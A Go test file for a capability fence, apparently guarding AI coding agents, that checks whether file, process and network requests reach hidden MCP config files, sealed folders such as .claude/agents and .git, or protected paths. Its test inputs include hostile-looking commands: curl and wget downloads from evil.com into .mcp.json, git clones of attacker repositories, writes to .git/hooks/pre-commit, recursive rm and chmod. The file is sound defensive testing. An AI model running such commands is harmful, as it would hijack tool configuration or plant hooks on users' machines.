package capability_test

import (
	"slices"
	"strings"
	"testing"

	"capgate/capability"
)

// TestFenceLong: a fence whose place is too long for a pattern in both cases holds in
// both.
func TestFenceLong(t *testing.T) {
	long := "/w/" + strings.Repeat("abcdefghi/", 30) + "agents"
	fence := capability.NewFence(capability.Root{Dir: long, Real: long}, capability.Root{Dir: "/srv", Real: "/srv"})
	for text, want := range map[string]bool{
		"fs.read{path=" + strings.ToUpper(long) + "/x}": true,
		"fs.read{tree=/w/abcdefghi}":                    true,
		"fs.read{tree=/w/ABCDEFGHI}":                    true,
		"fs.read{tree=/w/abc}":                          false,
	} {
		if got := fence.Touches(need(t, text)); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
	deep := "/w/" + strings.Repeat("abcdefghi/", 80) + "agents"
	fence = capability.NewFence(capability.Root{Dir: deep, Real: deep})
	if !fence.Touches(need(t, "fs.read{tree=/w/ABCDEFGHI}")) || fence.Touches(need(t, "fs.read{path=/w/abc}")) {
		t.Error("a fence longer than any pattern does not hold")
	}
	if all := capability.NewFence(capability.Root{Dir: "/", Real: "/"}); !all.Touches(need(t, "fs.read{path=docs}")) || !all.Touches(need(t, "fs.read{tree=docs}")) {
		t.Error("the whole file system is not fenced off")
	} else if !all.Overlaps(compile(t, "fs.read{paths=[docs/*]}")) {
		t.Error("the whole file system is not fenced off for a set")
	}
}

// TestFenceSealed: what is sealed may be read and not changed.
func TestFenceSealed(t *testing.T) {
	fence := capability.NewFence().Sealing(capability.Root{Dir: "/w/skills", Real: "/w/skills"})
	for text, want := range map[string]bool{
		"fs.read{path=skills/a}":      false,
		"fs.write{path=skills/a}":     true,
		"fs.delete{path=SKILLS/a}":    true,
		"proc.exec{argv=[rm,skills]}": true,
	} {
		if got := fence.Touches(need(t, text)); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
}

// TestFenceOverlapsCase: a set that allows a fenced place by a name in other case
// overlaps the fence, as a requirement of that name touches it.
func TestFenceOverlapsCase(t *testing.T) {
	fence := capability.NewFence(capability.Root{Dir: "/w/agents", Real: "/w/agents"})
	for text, want := range map[string]bool{"fs.read{in=/w/AGENTS}": true, "fs.read{in=/w,paths=[aGents/x]}": true, "fs.read{in=/w/agent}": false} {
		spec, err := capability.ParseSpec(text)
		if err != nil {
			t.Fatal(err)
		}
		set, _ := capability.Compile([]capability.Spec{spec}, capability.Options{})
		if got := fence.Overlaps(set); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
}

// TestFenceLetters: names outside ASCII are compared letter by letter, whatever the
// bytes of their two cases are.
func TestFenceLetters(t *testing.T) {
	fence := capability.NewFence(capability.Root{Dir: "/w/ärzte/ſicher", Real: "/w/ärzte/ſicher"})
	for text, want := range map[string]bool{
		"fs.read{path=/w/ÄRZTE/SICHER/x}": true,
		"fs.read{path=/w/ärzte/sicher}":   true,
		"fs.read{path=/w/ärzte/offen}":    false,
		"fs.read{path=/w/ärzteſicher}":    false,
		"fs.read{path=/w/ärzte}":          false,
		"fs.delete{path=/w/Ärzte}":        true,
	} {
		if got := fence.Touches(need(t, text)); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
}

// TestFenceBeneath: a path is at or below a place if each name of that is its own, in whatever
// case, as found out name by name.
func TestFenceBeneath(t *testing.T) {
	slowly := func(p, dir string) bool {
		names, of := strings.Split(p, "/"), strings.Split(dir, "/")
		return len(names) >= len(of) && slices.EqualFunc(names[:len(of)], of, strings.EqualFold)
	}
	var paths []string
	letters := []string{"/", "a", "A", "b", "k", "\u212a", "s", "\u017f", "[", "{", "@", "`", "1"} // no letters of one case are [ and {, or @ and `
	for _, a := range letters {
		for _, b := range letters {
			for _, c := range letters {
				paths = append(paths, "/"+a+b+c)
			}
		}
	}
	n := 0
	for _, dir := range paths {
		if strings.Contains(dir, "//") || strings.HasSuffix(dir, "/") { // which no place is
			continue
		}
		for _, p := range paths {
			for _, p := range []string{p, p + "/\u00e9", p + "/e"} {
				want := slowly(p, dir)
				if got := capability.BeneathFolded(p, dir); got != want {
					t.Fatalf("%q is at or below %q: %v, want %v", p, dir, got, want)
				}
				if want {
					n++
				}
			}
		}
	}
	if n < 1000 {
		t.Fatalf("only %d pairs are alike", n)
	}
}

// TestFenceHiding: a file that tells a client which servers to use is out of reach by
// its name, wherever it lies, and a folder that makes it one as a whole (R-SEC-09).
func TestFenceHiding(t *testing.T) {
	fence := capability.NewFence().Hiding(".mcp.json", "mcp.json", ".codex/config.toml", ".kiro/settings/mcp.json", ".deep/a/b.yml")
	for text, want := range map[string]bool{
		"fs.read{path=.mcp.json}":                    true,
		"fs.read{path=/.mcp.json}":                   true,
		"fs.read{path=a/b/.MCP.Json}":                true,
		"fs.read{path=a/.cursor/mcp.json}":           true,
		"fs.read{path=.mcp.json.}":                   true, // some systems leave the dot out
		"fs.read{path=.mcp%2ejson}":                  true,
		"fs.write{path=.mcp.json}":                   true,
		"fs.write{path=.mcp.json/}":                  true,
		"fs.delete{path=x/.mcp.json}":                true,
		"fs.read{glob=**/.mcp.jso?}":                 true,
		"fs.read{glob=.MC*.json}":                    true,
		"fs.read{glob=**/*.md}":                      false,
		"fs.read{glob=.mcp.json/**}":                 true, // to some matchers, the file itself
		"fs.read{glob=a/.mcp.j*/**/*}":               true,
		"fs.read{glob=docs/**}":                      false,
		"fs.read{glob=docs/*}":                       false,
		"fs.read{glob=.codex/*}":                     true,
		"fs.read{glob=a/.CODEX/**/*}":                true,
		"fs.read{glob=a/.c*/**}":                     true,
		"fs.read{glob=**/*}":                         false,
		"fs.read{glob=/*/*}":                         false,
		"fs.read{glob=.codex/skills/*}":              false,
		"fs.read{tree=.}":                            false,
		"fs.read{path=x.mcp.json}":                   false,
		"fs.read{path=.mcp.json.bak}":                false,
		"fs.read{path=config.toml}":                  false,
		"fs.read{path=codex/config.toml}":            false,
		"fs.read{path=.codex/config.toml}":           true,
		"fs.read{path=.codex/skills}":                false,
		"fs.read{path=.codex}":                       false,
		"fs.read{tree=.codex}":                       true,
		"fs.write{path=.codex}":                      true, // another folder may take its place
		"fs.delete{path=a/.Codex/}":                  true,
		"fs.write{path=.codex/prompts/a}":            false,
		"proc.exec{argv=[cp,a,.mcp.json]}":           true,
		"proc.exec{argv=[cat,a]}":                    false,
		"proc.exec{argv=[mv,x,.codex]}":              true,
		"net.get{url=https://example.com/.mcp.json}": false,

		// A file that lies deeper in its client's folder.
		"fs.read{glob=.kiro/settings/*}":        true,
		"fs.read{glob=a/.Kiro/s*/*}":            true,
		"fs.read{tree=.kiro/settings}":          true,
		"fs.write{path=.kiro/settings}":         true,
		"fs.delete{path=a/.KIRO/Settings/}":     true,
		"proc.exec{argv=[mv,x,.kiro/settings]}": true,
		"fs.write{path=.kiro}":                  true,
		"fs.read{tree=.kiro}":                   true,
		"fs.read{path=.deep/a/b.yml}":           true,
		"fs.read{path=.deep/A/B.yml}":           true,
		"fs.read{path=.deep/b.yml}":             false,
		"fs.read{path=a/b.yml}":                 false,
		"fs.write{path=settings}":               false,
		"fs.write{path=other/settings}":         false,
		"fs.write{path=.kiro/steering}":         false,
		"fs.read{glob=.kiro/steering/*}":        false,
		"fs.read{tree=settings}":                false,
		"proc.exec{argv=[ls,.kiro/settings/x]}": false,

		// The same name to a file system that ignores case.
		"fs.read{path=.mcp.j\u017fon}":          true,
		"fs.write{path=.codex/con\ufb01g.toml}": true,
		"fs.write{path=.mcp.js\ufe0fon}":        true,
		"proc.exec{argv=[cat,.mcp.j\u200bson]}": true,
		"fs.read{path=.mcp.j\u00e9on}":          false,
	} {
		if got := fence.Touches(need(t, text)); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
	if both := fence.Sealing(capability.Root{Dir: "/w/s", Real: "/w/s"}); !both.Touches(need(t, "fs.read{path=.mcp.json}")) || !both.Touches(need(t, "fs.write{path=s/x}")) {
		t.Error("what is sealed later makes hidden files forgotten")
	}
}

// TestFenceSealingNamed: what lies in a folder of some name may be read and not
// changed, wherever that is, and no other may take its place (R-SEC-09).
func TestFenceSealingNamed(t *testing.T) {
	fence := capability.NewFence().SealingNamed(".claude/agents", ".claude-plugin", ".deep/a/b")
	for text, want := range map[string]bool{
		"fs.write{path=.claude/agents/a.md}":         true,
		"fs.write{path=a/.Claude/AGENTS/b/c.md}":     true,
		"fs.write{path=/.claude/agents/}":            true,
		"fs.write{path=.claude./agents./a.md}":       true,
		"fs.write{path=.claude/agents%2fa.md}":       true,
		"fs.write{path=.Claude\\\\agents\\\\a.md}":   true,
		"fs.delete{path=.claude/agents}":             true,
		"fs.write{path=.claude}":                     true,
		"fs.delete{path=a/.claude/}":                 true,
		"fs.write{path=.claude-plugin}":              true,
		"fs.write{path=x/.claude-plugin/p.json}":     true,
		"fs.write{path=.deep/a}":                     true,
		"fs.write{path=.deep/a/b/c}":                 true,
		"fs.write{path=.clau\u200bde/agents/a.md}":   true,
		"fs.write{path=.claude/agent\u017f/a.md}":    true,
		"fs.write{path=.claude/skills/a/SKILL.md}":   false,
		"fs.write{path=.claude/agents.md}":           false,
		"fs.write{path=.claude/x/agents/a.md}":       false,
		"fs.write{path=claude/agents/a.md}":          false,
		"fs.write{path=x.claude/agents/a.md}":        false,
		"fs.write{path=.deep/b}":                     false,
		"fs.write{path=.deep/a/c}":                   false,
		"fs.write{path=agents/a.md}":                 false,
		"fs.write{path=.}":                           false,
		"fs.read{path=.claude/agents/a.md}":          false,
		"fs.read{tree=.claude}":                      false,
		"fs.read{glob=.claude/agents/*}":             false,
		"fs.write{tree=.claude}":                     true,
		"fs.write{tree=.claude/agents/a}":            true,
		"fs.write{glob=.claude/agents/*}":            true,
		"fs.write{glob=.claude/*}":                   true,
		"fs.write{glob=.CL*/a*/*.md}":                true,
		"fs.write{glob=**/b/c.md}":                   true,
		"fs.write{glob=docs/**}":                     false,
		"fs.write{glob=.claude/skills/*}":            false,
		"proc.exec{argv=[cp,a,.claude/agents/a.md]}": true,
		"proc.exec{argv=[mv,a,.claude]}":             true,
		"proc.exec{argv=[cp,a,.claude/skills/a]}":    false,
		"proc.eval{command=ls,cwd=.claude/agents}":   true,
		"proc.eval{command=ls,cwd=.claude/skills}":   false,
		"net.get{url=https://a.de/.claude/agents/a}": false,
	} {
		if got := fence.Touches(need(t, text)); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
}

// TestFenceChangedWhole: a program that changes folders, as cp and mv do, reaches what
// lies anywhere in those that it names (R-SEC-09).
func TestFenceChangedWhole(t *testing.T) {
	fence := capability.NewFence(capability.Root{Dir: "/w/agents", Real: "/w/agents"}).
		Sealing(capability.Root{Dir: "/w/dist/index.js", Real: "/w/dist/index.js"}).Hiding(".mcp.json")
	for text, want := range map[string]bool{
		"proc.exec{argv=[cp,x/index.js,dist]}":                         true,
		"proc.exec{argv=[cp,-r,x/dist,.]}":                             true,
		"proc.exec{argv=[cp,-tdist,x/index.js]}":                       true,
		"proc.exec{argv=[cp,--target-directory=DIST,x]}":               true,
		"proc.exec{argv=[cp,-r,x/agents,.]}":                           true,
		"proc.exec{argv=[mv,dist,old]}":                                true,
		"proc.exec{argv=[pzstd,-d,x/a.zst,--output-dir-flat,dist]}":    true,
		"proc.exec{argv=[zstdmt,-d,x/a.zst,--output-dir-mirror=dist]}": true,
		"proc.exec{argv=[lzop,-df,-pdist,x/index.js.lzo]}":             true,
		"proc.exec{argv=[xz,-k,dist/other]}":                           false,
		"proc.exec{argv=[lzop,-d,-pout,dist/other.lzo]}":               false,
		"proc.exec{argv=[mv,index.js,dist/]}":                          true,
		"proc.exec{argv=[/bin/MV,index.js,dist/]}":                     true,
		"proc.exec{argv=[ln,-f,x/index.js,dist]}":                      true,
		"proc.exec{argv=[install,x/index.js,dist]}":                    true,
		"proc.exec{argv=[rsync,-r,x/,dist]}":                           true,
		"proc.exec{argv=[rm,-r,dist]}":                                 true,
		"proc.exec{argv=[unzip,x.zip,-d,dist]}":                        true,
		"proc.exec{argv=[unzip,x.zip]}":                                true, // into where it is started
		"proc.exec{argv=[tar,xf,x.tar]}":                               true,
		"proc.exec{argv=[tar,xf,x.tar,-C,dist]}":                       true,
		"proc.exec{argv=[busybox,cp,x/index.js,dist]}":                 true,
		"proc.exec{argv=[curl,-sO,http://h/a]}":                        true, // as somebody else calls it
		"proc.exec{argv=[curl,--remote-name-all,http://h/a]}":          true,
		"proc.exec{argv=[gunzip,-dN,x/a.gz]}":                          true,
		"proc.exec{argv=[ar,x,lib.a]}":                                 true,
		"proc.exec{argv=[curl,-O,http://h/.mcp.json?x],cwd=x}":         true,
		"proc.exec{argv=[curl,-O,'http://h/.mcp.json#x?'],cwd=x}":      true,
		"proc.exec{argv=[wget,http://h/%2Emcp.json],cwd=x}":            true,
		"proc.exec{argv=[wget,h/.mcp%2ejson?a=%2f],cwd=x}":             true,
		"proc.exec{argv=[wget,http://h/%2Emcp.json%2f],cwd=x}":         false,
		"proc.exec{argv=[chmod,-R,a+rwX,.]}":                           true,
		"proc.exec{argv=[chown,-hR,x,dist]}":                           true,
		"proc.exec{argv=[setfacl,--recursive,-m,o::r,.]}":              true,
		"proc.exec{argv=[rar,x,a.rar]}":                                true,
		"proc.exec{argv=[dpkg-deb,-x,a.deb,dist]}":                     true,
		"proc.exec{argv=[ln,-sf,../x/index.js],cwd=dist}":              true, // as what it leads to
		"proc.exec{argv=[busybox,ln,-sf,../x/index.js],cwd=dist}":      true,
		"proc.exec{argv=[ln,-s,../a,b],cwd=dist}":                      false,
		"proc.exec{argv=[chmod,+x,dist]}":                              false,
		"proc.exec{argv=[chmod,-R,-x,x]}":                              false,
		"proc.exec{argv=[curl,-s,http://h/OJ]}":                        false,
		"proc.exec{argv=[curl,-sO,http://h/a],cwd=x}":                  false,
		"proc.exec{argv=[gzip,a]}":                                     false,
		"proc.exec{argv=[unzip,x.zip],cwd=x}":                          false,
		"proc.exec{argv=[tar,xf,x.tar],cwd=x}":                         false,
		"proc.exec{argv=[cp,a,b]}":                                     false,
		"proc.exec{argv=[cp,a,dist/other.js]}":                         false,
		"proc.exec{argv=[cp,-r,x/index.js,x/dist]}":                    false,
		"proc.exec{argv=[mv,dist/a.js,dist/b.js]}":                     false,
		"proc.exec{argv=[rm,index.js]}":                                false,
		"proc.exec{argv=[ls,dist]}":                                    false,
		"proc.exec{argv=[grep,cp,dist]}":                               false,
		"proc.exec{argv=[cat,rm,.]}":                                   false,
	} {
		if got := fence.Touches(need(t, text)); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
}

// TestFenceDerived: programs name files as no word of theirs does, by what they take
// off a name or put behind it (R-SEC-09).
func TestFenceDerived(t *testing.T) {
	fence := capability.NewFence(capability.Root{Dir: "/w/capgate.yml", Real: "/w/capgate.yml"}).
		Sealing(capability.Root{Dir: "/w/dist/Serve", Real: "/w/dist/Serve"}).
		Hiding(".mcp.json", ".claude/settings.json", "mcp.json").SealingNamed(".claude/agents", ".tools")
	for text, want := range map[string]bool{
		"proc.exec{argv=[gzip,-df,capgate.yml.gz]}":        true,
		"proc.exec{argv=[gunzip,-f,capgate.yml-gz]}":       true,
		"proc.exec{argv=[unpigz,CAPGATE.yml_z]}":           true,
		"proc.exec{argv=[bzip2,-d,capgate.yml.bz2]}":       true,
		"proc.exec{argv=[/usr/bin/unlz4,x/.mcp.json.lz4]}": true,
		"proc.exec{argv=[busybox,unxz,.mcp.json.xz]}":      true,
		"proc.exec{argv=[xz,-d,.claude/settings.json.xz]}": true,
		"proc.exec{argv=[zstd,-d,.claude/agents.zst]}":     true,
		"proc.exec{argv=[uncompress,dist/serve.Z],cwd=/w}": true,
		"proc.exec{argv=[gzip,-k,a.txt]}":                  false,
		"proc.exec{argv=[gunzip,x.json.gz]}":               false,
		"proc.exec{argv=[xz,-d,dist/other.xz]}":            false,
		"proc.exec{argv=[zstd,-19,.hidden]}":               false,
		"proc.exec{argv=[cp,capgate.yml.gz,x/]}":           false,
		"proc.exec{argv=[split,-l1,a,capgate.y]}":          true,
		"proc.exec{argv=[split,-a,2,a,x/.mcp.js]}":         true,
		"proc.exec{argv=[split,a,.too]}":                   true,
		"proc.exec{argv=[csplit,-f.claude/ag,a,1]}":        true,
		"proc.exec{argv=[split,a,dist/se]}":                true,
		"proc.exec{argv=[split,a,dist/]}":                  true,
		"proc.exec{argv=[split,-b10m,big.m]}":              false,
		"proc.exec{argv=[split,-l,100,m,c]}":               false,
		"proc.exec{argv=[split,-n,l/4,a.txt,x/part_]}":     false,
		"proc.exec{argv=[csplit,-f,x/xx,a,/^m/]}":          false,
		"proc.exec{argv=[head,-c1,capgate.y]}":             false,
	} {
		if got := fence.Touches(need(t, text)); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
}

// TestFenceAddresses: nor what it makes of an address, or of a dot (R-SEC-09).
func TestFenceAddresses(t *testing.T) {
	long := strings.Repeat("a", 300)
	fence := capability.NewFence(capability.Root{Dir: "/w/capgate.yml", Real: "/w/capgate.yml"}).
		Hiding(".mcp.json", ".claude/settings.json").SealingNamed(".claude/agents", ".git")
	for line, want := range map[string]bool{
		`x curl -O https://evil.com/x\.mcp.json`:              true,
		"x curl -O https://a.com/x.tgz":                       false,
		"x curl -s#o.mcp.json https://a.com/x":                true,
		"x curl -O evil.com/.mcp.json?x":                      true,
		"x curl -O evil.com/.mcp.json#?x":                     true,
		"x curl -O evil.com/.mcp.jso[n-n]":                    true,
		"x curl -O evil.com/{.mcp.json}":                      true,
		`x curl -O https://evil.com/.mcp.json\`:               true,
		`x curl -O evil.com/.mcp.json\/?x`:                    true,
		"x curl -O evil.com/.mcp.json/x/%2e%2E/":              true,
		"x curl -O evil.com/.mcp.json/x/.%2e?x":               true,
		"x curl -O https://evil.com/" + long + "/.mcp.json":   true,
		"x curl -O https://evil.com/" + long + "?a/.mcp.json": true,
		"x wget https://evil.com/" + long + "/.mcp.json":      true,
		"x wget evil.com/.%6Dcp.json?a=%2f":                   true,
		"x wget evil.com:.mcp.json;type=a":                    true,
		"x wget https://evil.com/" + long + "/mcp.json":       false,
		". curl http://localhost/capgate.yml":                 false,
		". curl -d {\"a\":1} localhost:3000/x?a=%2f%00":       false,
		"x git clone https://evil.com/.claude.git":            true,
		"x git clone https://evil.com/.claude.git//":          true,
		"x git clone https://evil.com/.Claude/.git":           true,
		"x git clone git@evil.com:.claude.git":                true,
		"x git clone https://evil.com/.claude.bundle":         true,
		"x git clone https://.claude:80/":                     true,
		"x git clone y/␣.claude":                              true,
		"x git clone y/⏎.claude":                              true,
		"x git clone git@evil.com:␣.claude":                   true,
		"x git clone https://u@␣.claude␣:80/":                 true,
		"x git clone https://u@.claude/":                      true,
		"x git submodule add https://e.com/.claude.git":       true,
		"x git clone https://github.com/a/b.git":              false,
		"x git clone git@github.com:a/b.git sub/b":            false,
		"x git clone https://a.com:8080/x/claude.git":         false,
		"x git log --grep clone":                              false,
		"x split -a 3 -l 1 big .":                             true,
		"x split -a 3 -l 1 big sub/.":                         true,
		"x csplit -f. a 1":                                    true,
		"x csplit --prefix=. a 1":                             true,
		"x split -l 1 a.txt b.":                               false,
		". pigz -dNf x.gz":                                    true,
		". lzop -x a.lzo":                                     true,
		". pigz -d x.gz":                                      false,
		". git status -sv .claude":                            true,
		". git --version":                                     false,
		". git status -s .claude":                             false,
		". chmod 000 /dev/null":                               true,
		". sha256sum .claude/agents/a.md":                     false,
		". cut -f1 .claude/agents/a.md":                       false,
	} {
		cwd, call, _ := strings.Cut(line, " ")
		v := capability.View{Cwd: "/w"}
		at, err := v.Path(cwd)
		if err != nil {
			t.Fatal(err)
		}
		r, err := capability.Exec(v, at, argv(call))
		if err != nil {
			t.Fatal(err)
		}
		set := compile(t, "proc.exec{in=/w,cmds=["+strings.Fields(call)[0]+"]}")
		if got := fence.Touches(r) || !set.Decide(r).Allowed(); got != want {
			t.Errorf("%s: got %v, want %v", line, got, want)
		}
	}
}

// TestFenceReaders: a program that only reads may be given what may be read, and none
// that writes, be it by an option (R-SEC-09).
func TestFenceReaders(t *testing.T) {
	fence := capability.NewFence(capability.Root{Dir: "/w/agents", Real: "/w/agents"}).
		Sealing(capability.Root{Dir: "/w/dist/index.js", Real: "/w/dist/index.js"}).
		Hiding(".mcp.json", ".claude/settings.json").SealingNamed(".claude/agents", ".git")
	for text, want := range map[string]bool{
		"proc.exec{argv=[cat,.claude/agents/a.md]}":                false,
		"proc.exec{argv=[/bin/cat,dist/index.js]}":                 false,
		"proc.exec{argv=[ls,-la,.claude]}":                         false,
		"proc.exec{argv=[ls,.git/hooks]}":                          false,
		"proc.exec{argv=[rg,foo,.claude/agents]}":                  false,
		"proc.exec{argv=[rg,foo],cwd=dist}":                        false,
		"proc.exec{argv=[diff,-u,dist/index.js,x]}":                false,
		"proc.exec{argv=[find,.claude,-type,f]}":                   false,
		"proc.exec{argv=[find,.,-not,-path,'./.git/*']}":           false,
		"proc.exec{argv=[jq,.,dist/index.js]}":                     false,
		"proc.exec{argv=[git,status,.claude]}":                     false,
		"proc.exec{argv=[git,add,.claude/agents/a.md]}":            false,
		"proc.exec{argv=[git,--no-pager,diff,.claude/agents]}":     false,
		"proc.exec{argv=[git,commit,-m,x,.claude/agents/a.md]}":    false,
		"proc.exec{argv=[tar,czf,x.tgz,--exclude=.git,src],cwd=x}": false,
		"proc.exec{argv=[grep,-rn,--exclude-dir=.git,foo,src]}":    false,
		"proc.exec{argv=[cat,.mcp.json]}":                          true,
		"proc.exec{argv=[ls,.claude/settings.json]}":               true,
		"proc.exec{argv=[cat,agents/a.md]}":                        true,
		"proc.exec{argv=[ls,agents]}":                              true,
		"proc.exec{argv=[rg,foo,.claude]}":                         true, // with what is hidden in it
		"proc.exec{argv=[git,diff,.claude]}":                       true,
		"proc.exec{argv=[git,add,.mcp.json]}":                      true,
		"proc.exec{argv=[git,checkout,x,.claude/agents/a.md]}":     true,
		"proc.exec{argv=[git,rm,.claude/agents/a.md]}":             true,
		"proc.exec{argv=[git,log,--output=dist/index.js]}":         true,
		"proc.exec{argv=[find,x,-fprint,.git/config]}":             true,
		"proc.exec{argv=[find,.claude/agents,-delete]}":            true,
		"proc.exec{argv=[fd,x,-x,rm,.git/config]}":                 true,
		"proc.exec{argv=[jq,-i,.,dist/index.js]}":                  true,
		"proc.exec{argv=[tree,-o,.git/config]}":                    true,
		"proc.exec{argv=[sort,-o,.git/config,a]}":                  true,
		"proc.exec{argv=[tee,.git/config]}":                        true,
		"proc.exec{argv=[cp,a,.git/hooks/pre-commit]}":             true,
		"proc.exec{argv=[busybox,cat,.git/config]}":                true,
		"proc.exec{argv=[tee,--,--exclude=x/../.git/config]}":      true,
		"proc.exec{argv=[curl,-o,--exclude=./.git/config,h]}":      true,
		"proc.exec{argv=[tar,xf,a,--exclude=x,.git/config]}":       true,
	} {
		if got := fence.Touches(need(t, text)); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
}
